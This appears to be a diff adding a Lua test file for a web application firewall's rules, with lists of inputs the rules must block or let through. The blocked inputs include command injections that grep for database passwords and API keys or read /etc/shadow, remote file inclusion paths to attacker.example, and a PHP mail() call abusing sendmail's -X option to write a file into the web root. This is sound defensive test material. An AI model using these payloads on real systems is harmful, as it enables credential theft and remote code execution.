@@ -1,0 +1,32 @@
+local rule_checks = require "rule_checks"
+
+-- The hundred-and-ninety-ninth round (tests/edge_security/family_gen_blind_*.py of this round and the
+-- open items of the last): the families found uncovered and the text beside them, value by value.
+describe("edge.waf.rules hundred-and-ninety-ninth round on", function()
+    local caught_by, clean
+
+    setup(function()
+        caught_by, clean = rule_checks.new(assert)
+    end)
+
+    it("commands: a filter reading a system directory, a tree searched for secrets, a command run as another user",
+        function()
+            caught_by(132105, { ";grep -r DB_PASSWORD /var/www", "&& head -c 200 /etc/shadow",
+                "|grep -ri api_key .", "SAMPLE | su - db2inst1 -c 'db2 list tablespaces'", "x; su postgres -c psql",
+                "SAMPLE; db2 list database directory" })
+            clean({ "ps aux | grep nginx", "journalctl -u nginx | tail -n 50", "Ops engineer; grep and sed fan",
+                "`grep -rn \"TODO\" src/ | wc -l` is my favourite", "we run DB2; db2 is old but fine",
+                "sort by date | head of table" })
+        end)
+
+    it("RFI: a network path written with backslashes, which Windows and URL parsers read as slashes", function()
+        caught_by(131130, { "\\\\attacker.example/shell.txt", "/\\attacker.example/shell.txt" })
+        caught_by(131120, { "\\\\attacker.example@8080\\webdav\\inc.cfm" })
+        clean({ "\\\\fileserver\\finance\\Q3 report.xlsx", "see notes.txt in the wiki", "a/b\\c.txt" })
+    end)
+
+    it("PHP mail(): sendmail's log option as a quoted argument of the call", function()
+        caught_by(132240, { "mb_send_mail('a@b.c','x','y','','-X/var/www/html/log.php');" })
+        clean({ "mb_send_mail('a@b.c','Hello','Body')", "the 'x' axis", "-x is the flag" })
+    end)
+end)
